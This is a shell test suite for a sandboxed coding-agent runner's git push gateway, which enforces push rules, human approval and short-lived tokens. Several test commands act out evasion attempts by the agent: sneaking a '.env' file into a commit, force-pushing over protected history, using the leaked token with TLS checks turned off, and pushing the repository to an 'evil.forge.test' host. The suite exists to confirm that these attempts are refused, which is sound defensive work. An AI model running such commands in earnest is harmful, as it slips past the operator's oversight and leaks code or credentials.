#!/usr/bin/env bats
# Forges and pushes as a whole: daemon, run, cc-push, cc-forge, real git, a stand-in forge over TLS (contract 4.4, 4.5).
load lib
load server
bats_require_minimum_version 1.5.0

setup_more() {
	with_agents
	cp "$BATS_TEST_DIRNAME/../clients/fake_agent.py" "$BASE/bin/claude"
	chmod 755 "$BASE/bin/claude"
	echo "{\"filesystem\":{\"allowRead\":[\"$BASE/bin\"]}}" >"$XDG_CONFIG_HOME/ccbox/policy.jsonc"
	mkdir "$BASE/forge"
	PYTHONPATH=$BATS_TEST_DIRNAME /usr/bin/python3 "$BATS_TEST_DIRNAME/forge_server.py" "$BASE/forge" "$PWD" 3>&- &
	FORGE=$!
	for _ in $(seq 600); do [ -s "$BASE/forge/host" ] && break; sleep 0.05; done
	HOST=$(cat "$BASE/forge/host")
	TOOL=$BASE/forge/tool.git
	git remote add origin "https://$HOST/ann/tool.git"
}
teardown_more() { kill "$FORGE" 2>/dev/null || true; }

daemon_dir() {
	DATA=$BASE/data/ccbox-server
	mkdir -p "$DATA"
	chmod 700 "$DATA"
}

# forges RULES [DAEMON'S OPTIONS] : the daemon, with the stand-in as its forge
forges() {
	daemon_dir
	printf '{"forges":[{"kind":"github","host":"%s","api":"https://%s/api/v3","appId":4711,"keyFile":"%s","caFile":"%s"}],"push":%s}' \
		"$HOST" "$HOST" "$BASE/forge/app.pem" "$BASE/forge/ca.pem" "$1" >"$DATA/forges.json"
	chmod 600 "$DATA/forges.json" "$BASE/forge/app.pem"
	shift
	daemon "$@"
}

# begin COMMAND [MEMBERS] : a run in a copy whose agent does that; its id in RUN
begin() {
	RUN=$(python3 -c 'import json,sys; print(json.dumps({"agent": "claude", "prompt": "run " + sys.argv[1], "repo": sys.argv[2]} | json.loads(sys.argv[3])))' \
		"$1" "$PWD" "{${2:-}}" | api POST /v1/runs -d @- | field runId)
	[[ $RUN == r-* ]]
}
state() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$BASE/forge/state.json" "$1"; }
ref() { git -C "$TOOL" rev-parse -q --verify "refs/heads/$1"; }
# taken_back : the forge holds no token of ours, and nothing waits to be taken back or lies about
taken_back() {
	for _ in $(seq 400); do
		left="$(state alive) $(find "$DATA/push" -mindepth 1 2>/dev/null) $(grep -rls ghs_ "$DATA/forge" || true)"
		[ "$left" != "0  " ] || return 0
		sleep 0.05
	done
	echo "left: $left" >&2
	return 1
}
# no two of the same second are one
COMMIT='git commit -q --allow-empty -m work -m "$(cat /proc/sys/kernel/random/uuid)"'

@test "a push that a rule allows: by the remote's name, done with a token the agent never sees, everything taken back" {
	forges '[{"ref":"agent/**","verdict":"allow"}]'
	begin "$COMMIT; git push origin HEAD:refs/heads/agent/one; echo pushed \$?; env | grep -c '^GH_ENTERPRISE_TOKEN=ghs_'"
	lines=$(record)
	echo "$lines"
	[[ $lines == *'pushed 0'* ]]
	[[ $lines == *'pushed 0\n1\n'* ]]
	[ "$(ref agent/one)" != "$(git rev-parse HEAD)" ]
	[ "$(git -C "$TOOL" rev-parse refs/heads/agent/one^)" = "$(git rev-parse HEAD)" ]
	[[ $lines == *'"type":"decision","tool":"git push","decision":"allow"'* ]]
	[ "$(state read)" = 1 ]
	[ "$(state write)" = 1 ]
	[[ $lines != *ghs_* ]]
	taken_back
	nothing_left
	down
}

@test "what no rule speaks of is asked, with what would be pushed: yes, no, and silence" {
	forges '[]'
	begin "$COMMIT; git push origin HEAD:refs/heads/agent/two 2>&1; echo pushed \$?"
	until_says '"type":"approval","tool":"git push"'
	[ -z "$(ref agent/two)" ]
	api GET "/v1/runs/$RUN/events?format=lines&follow=0" | grep '"type":"approval"' | grep 'refs/heads/agent/two' | grep -q '"subject":"work"'
	# the same in words, for whoever reads along
	"$CCBOX" runs "$RUN" 2>&1 | grep -q '> refs/heads/agent/two: a branch is made'
	"$CCBOX" agent approve "$RUN"
	lines=$(record)
	[[ $lines == *'pushed 0'* ]]
	[ -n "$(ref agent/two)" ]
	# one with more than a question can hold
	begin "for i in \$(seq 500); do echo \$i >file-with-a-rather-long-name-\$i; git add file-with-a-rather-long-name-\$i; [ \$((i % 10)) != 0 ] || git commit -qm \"work number \$i, with a rather long subject line that goes on and on\"; done; git push origin HEAD:refs/heads/agent/many 2>&1; echo pushed \$?"
	until_says '"type":"approval"'
	api GET "/v1/runs/$RUN/events?format=lines&follow=0" | grep '"type":"approval"' | grep -q '"commitCount":50,.*"statIsCut":true'
	"$CCBOX" agent approve "$RUN"
	lines=$(record)
	[[ $lines == *'pushed 0'* ]]
	[ -n "$(ref agent/many)" ]
	begin "$COMMIT; git push origin HEAD:refs/heads/agent/three 2>&1; echo pushed \$?"
	until_says '"type":"approval"'
	"$CCBOX" agent approve "$RUN" --deny
	lines=$(record)
	[[ $lines == *'pushed 1'* ]]
	[ -z "$(ref agent/three)" ]
	begin "$COMMIT; git push origin HEAD:refs/heads/agent/four 2>&1; echo pushed \$?" '"approvalSeconds":1'
	lines=$(record)
	[[ $lines == *'pushed 1'* ]]
	[[ $lines == *'"decision":"deny","by":"timeout"'* ]]
	[ -z "$(ref agent/four)" ]
	# a token that writes was made only for the one that was allowed
	taken_back
	down
}

@test "refused: a forbidden name in a commit, a path that may not change, history rewritten; the agent is told why" {
	forges '[{"ref":"**","verdict":"allow"},{"paths":["ci/**"],"verdict":"deny"}]'
	git -C "$TOOL" update-ref refs/heads/kept "$(git rev-parse HEAD)"
	# the name cannot be made in the tree, but in an object it can
	begin 'git update-index --add --cacheinfo "100644,$(echo x | git hash-object -w --stdin),.env"; git commit -qm sly; git push origin HEAD:refs/heads/agent/a 2>&1; echo pushed $?'
	lines=$(record)
	[[ $lines == *'pushed 1'* ]]
	[[ $lines == *'"decision":"deny","by":"push rule"'* ]]
	[[ $lines == *'.env'* ]]
	begin 'mkdir ci; echo x >ci/x; git add ci; git commit -qm ci; git push origin HEAD:refs/heads/agent/b 2>&1; echo pushed $?'
	[[ $(record) == *'pushed 1'* ]]
	begin 'git checkout -q --orphan other; git commit -q --allow-empty -m other; git push --force origin HEAD:refs/heads/kept 2>&1; git push origin --delete kept 2>&1; git push origin HEAD:refs/tags/v1 2>&1; echo pushed $?'
	[[ $(record) == *'pushed 1'* ]]
	[ "$(git -C "$TOOL" for-each-ref --format='%(refname)' | tr '\n' ' ')" = "refs/heads/kept refs/heads/main " ]
	[ "$(ref kept)" = "$(git rev-parse HEAD)" ]
	taken_back
	down
}

@test "nothing else pushes: the token that is inside only reads, the forge itself is not reached but by its rule" {
	echo "{\"filesystem\":{\"allowRead\":[\"$BASE/bin\"]},\"network\":{\"hosts\":{\"git.forge.test\":[\"127.0.0.1\"]},\"allowedDomains\":[\"git.forge.test\"]}}" \
		>"$XDG_CONFIG_HOME/ccbox/policy.jsonc"
	forges '[{"ref":"**","verdict":"allow"}]'
	cp "$BASE/forge/ca.pem" ca.pem
	git add ca.pem
	git commit -qm ca
	# by a name that is allowed, with the token: the forge says no. GIT_CONFIG_COUNT=0: without the settings of the session
	begin "$COMMIT; unset GIT_CONFIG_COUNT; g() { git -c http.sslVerify=false -c http.extraHeader=\"Authorization: Basic \$(printf x:%s \$GH_ENTERPRISE_TOKEN | base64 -w0)\" \"\$@\"; }; g push https://git.forge.test:${HOST#*:}/ann/tool.git HEAD:refs/heads/agent/x 2>&1; echo pushed \$?; g ls-remote https://git.forge.test:${HOST#*:}/ann/tool.git"
	lines=$(record)
	echo "$lines"
	[[ $lines != *'pushed 0'* ]]
	[[ $lines == *'refs/heads/main'* ]]
	[ "$(state refused)" -gt 0 ]
	[ "$(state write)" = 0 ]
	# by ssh, and by a name that is not: refused by the sandbox, with an event
	begin "unset GIT_CONFIG_COUNT; git push ssh://git@evil.forge.test/ann/tool.git HEAD:refs/heads/y 2>&1; git push https://evil.forge.test/ann/tool.git HEAD:refs/heads/y 2>&1; echo pushed \$?"
	lines=$(record)
	[[ $lines == *'"target":"evil.forge.test:443'* ]]
	[ -z "$(ref agent/x)" ]
	taken_back
	down
}

@test "the daemon is killed in the middle: nothing is left, and the next one takes the tokens back" {
	forges '[{"ref":"**","verdict":"allow"}]'
	begin "$COMMIT; git push origin HEAD:refs/heads/agent/k; sleep 1000"
	for _ in $(seq 400); do [ -z "$(ref agent/k)" ] || break; sleep 0.05; done
	[ -n "$(ref agent/k)" ]
	# cc-forge first, so that it cannot take anything back itself
	for pid in $(pgrep -u "$(id -u)" -f "$(dirname "$CCBOX")/cc-forge"); do
		grep -qzsF "$BASE" "/proc/$pid/environ" || [ "$(ps -o ppid= -p "$pid" | tr -d ' ')" = "$SERVER" ] || continue
		kill -STOP "$pid"
		stopped=$pid
	done
	kill -KILL "$SERVER"
	kill -KILL "$stopped"
	nothing_left
	[ "$(state alive)" -gt 0 ]
	forges '[]'
	taken_back
	down
}

@test "the helper for forges is killed in the middle: the push is refused, the next one works" {
	forges '[{"ref":"**","verdict":"allow"}]'
	begin "$COMMIT; touch here; while [ ! -e go ]; do sleep 0.05; done; git push origin HEAD:refs/heads/agent/h 2>&1; echo pushed \$?"
	until_says '"type":"ready"'
	pid=$(pgrep -P "$SERVER" -f cc-forge)
	kill -KILL "$pid"
	for _ in $(seq 200); do kill -0 "$pid" 2>/dev/null || break; sleep 0.05; done
	place=$(api GET "/v1/runs/$RUN" | python3 -c 'import json,sys; print(json.load(sys.stdin)["detail"]["directory"])')
	touch "$place/go"
	lines=$(record)
	echo "$lines"
	[[ $lines == *'pushed '* ]]
	taken_back
	down
}

@test "a run in the directory itself pushes in the same way" {
	forges '[{"ref":"agent/**","verdict":"allow"}]'
	RUN=$(api POST /v1/runs -d "{\"agent\":\"claude\",\"prompt\":\"run git commit -q --allow-empty -m here; git push origin HEAD:refs/heads/agent/in 2>&1; echo pushed \$?\",\"directory\":\"$PWD\"}" | field runId)
	lines=$(record)
	[[ $lines == *'pushed 0'* ]]
	[ "$(ref agent/in)" = "$(git rev-parse HEAD)" ]
	taken_back
	down
}

@test "without a sandbox there is no gateway, and the record says so; the token is there for its time" {
	forges '[{"ref":"**","verdict":"allow"}]' --sandbox off
	begin "env | grep -c '^GH_ENTERPRISE_TOKEN=ghs_'; env | grep -c pushInsteadOf"
	lines=$(record)
	[[ $lines == *'status 1: 1\n0\n'* ]]
	[[ $lines == *'no push gateway: it is reached from inside a sandbox only'* ]]
	taken_back
	down
}

@test "a forge that is not there: the run goes on without a token, and says so" {
	forges '[]'
	kill "$FORGE"
	wait "$FORGE" || true
	begin 'echo went on; env | grep -c GH_ENTERPRISE_TOKEN'
	lines=$(record)
	[[ $lines == *'no token of the forge'* ]]
	[[ $lines == *'went on\n0\n'* ]]
	down
}

@test "forges.json that others can read, or that is wrong, keeps the server from starting, with the reason" {
	daemon_dir
	echo '{"forges":[{"kind":"github","host":"git.test"}]}' >"$DATA/forges.json"
	chmod 644 "$DATA/forges.json"
	run -125 timeout 20 "$CC_SERVER" --data-dir "$DATA" --port 0
	[[ $output == *"chmod 600"* ]]
	chmod 600 "$DATA/forges.json"
	echo '{"forges":[]}' >"$DATA/forges.json"
	run -125 timeout 20 "$CC_SERVER" --data-dir "$DATA" --port 0
	[[ $output == *"forges.json:1:"* ]]
	echo '{"forges":[{"kind":"github","host":"git.test"}],"push":[{"verdict":"perhaps"}]}' >"$DATA/forges.json"
	run -125 timeout 20 "$CC_SERVER" --data-dir "$DATA" --port 0
	[[ $output == *"forges.json"* ]]
}
